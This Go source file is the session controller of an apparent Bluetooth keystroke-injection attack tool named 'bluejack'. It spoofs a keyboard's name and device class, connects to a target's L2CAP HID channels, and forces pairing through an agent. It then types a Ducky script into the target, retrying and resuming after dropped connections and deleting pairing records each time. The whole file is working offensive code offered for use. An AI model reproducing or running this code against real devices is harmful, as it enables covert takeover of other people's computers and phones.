// Package session orchestrates one attack session: host setup, the
// connect/pair/execute loop, reconnect handling and cleanup.
package session

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/godbus/dbus/v5"

	"github.com/bluejack/bluejack/ducky"
	"github.com/bluejack/bluejack/internal/bluez"
	"github.com/bluejack/bluejack/internal/log"
	"github.com/bluejack/bluejack/l2cap"
)

// Config carries everything a session needs to run.
type Config struct {
	Adapter        string
	Target         string
	DeviceName     string
	DeviceClass    string
	ConnectTimeout time.Duration
	KeyDelay       time.Duration
	ChordDelay     time.Duration
	Retry          RetryPolicy
}

// Controller owns the session lifecycle. The main flow is synchronous;
// the profile registration and pairing agent are the only background
// collaborators and live in the task registry.
type Controller struct {
	cfg    Config
	logger *slog.Logger
	raw    log.RawLogger
	interp *ducky.Interpreter
	tasks  Tasks

	conn    *dbus.Conn
	adapter *bluez.Adapter
}

// New builds a controller; timings default when left zero.
func New(cfg Config, logger *slog.Logger, raw log.RawLogger) *Controller {
	interp := ducky.NewInterpreter(logger)
	if cfg.KeyDelay > 0 {
		interp.KeyDelay = cfg.KeyDelay
	}
	if cfg.ChordDelay > 0 {
		interp.ChordDelay = cfg.ChordDelay
	}
	return &Controller{cfg: cfg, logger: logger, raw: raw, interp: interp}
}

// Run executes the script against the target, reconnecting and
// resuming from the saved cursor until the script completes or the
// retry policy is exhausted. Host-tool failures abort without retry.
func (c *Controller) Run(ctx context.Context, script ducky.Script) error {
	if err := c.setup(); err != nil {
		return err
	}
	defer c.teardown()

	cursor := ducky.Cursor{}
	failures := 0
	for {
		if err := ctx.Err(); err != nil {
			return err
		}

		err := c.attempt(&cursor, script)
		if err == nil {
			// Give the peer time to digest the final reports before
			// the channels drop.
			time.Sleep(2 * time.Second)
			c.logger.Info("script completed", "lines", len(script))
			return nil
		}

		var re *ducky.ReconnectError
		switch {
		case errors.As(err, &re):
			cursor = re.Cursor
			c.logger.Info("reconnection required, attempting to reconnect",
				"line", cursor.Line, "offset", cursor.Offset)
		case isConnectFailure(err):
			c.logger.Error("connection attempt failed", "error", err)
		default:
			return err
		}

		failures++
		if c.cfg.Retry.Exhausted(failures) {
			return fmt.Errorf("session: giving up after %d attempts: %w", failures, err)
		}
		wait := c.cfg.Retry.WaitFor(failures)
		c.logger.Info("waiting before retry", "wait", wait, "attempt", failures+1)
		select {
		case <-time.After(wait):
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

// setup prepares the host side once per session: daemon restart, HID
// profile registration held for the session lifetime, adapter
// identity, power and SSP. Any failure here is fatal.
func (c *Controller) setup() error {
	if err := bluez.RestartDaemon(c.logger); err != nil {
		return err
	}

	conn, err := dbus.SystemBus()
	if err != nil {
		return fmt.Errorf("session: connect system bus: %w", err)
	}
	c.conn = conn
	c.tasks.Add(func() { _ = conn.Close() })

	profile := bluez.NewProfile(conn, c.logger)
	if err := profile.Register(c.cfg.DeviceName); err != nil {
		return err
	}
	c.tasks.Add(profile.Unregister)

	adapter, err := bluez.NewAdapter(conn, c.cfg.Adapter, c.logger)
	if err != nil {
		return err
	}
	c.adapter = adapter

	if err := adapter.SetProperty("name", c.cfg.DeviceName); err != nil {
		return err
	}
	if err := adapter.SetProperty("class", c.cfg.DeviceClass); err != nil {
		return err
	}
	if err := adapter.SetPowered(true); err != nil {
		return err
	}
	return adapter.EnableSSP()
}

func (c *Controller) teardown() {
	c.tasks.StopAll()
}

// attempt runs one connect/pair/execute cycle. Channels are created
// fresh every time; whatever happens, the pairing record is removed so
// the next attempt starts unpaired.
func (c *Controller) attempt(cursor *ducky.Cursor, script ducky.Script) error {
	mgr := l2cap.NewManager(c.cfg.Target, c.cfg.ConnectTimeout, c.logger, c.raw)
	for _, port := range []uint16{l2cap.PSMControl, l2cap.PSMHIDControl, l2cap.PSMHIDInterrupt} {
		if _, err := mgr.CreateConnection(port); err != nil {
			return err
		}
	}
	defer mgr.CloseAll()
	defer func() { _ = c.adapter.RemoveDevice(c.cfg.Target) }()

	agent := bluez.NewPairingAgent(c.conn, c.cfg.Adapter, c.cfg.Target, c.logger)
	if err := agent.Start(); err != nil {
		return err
	}
	defer agent.Stop()

	if err := mgr.ConnectAll(); err != nil {
		return err
	}

	interrupt := mgr.Channel(l2cap.PSMHIDInterrupt)
	return c.interp.Run(interrupt, script, cursor)
}

func isConnectFailure(err error) bool {
	var ce *l2cap.ConnectError
	return errors.As(err, &ce)
}
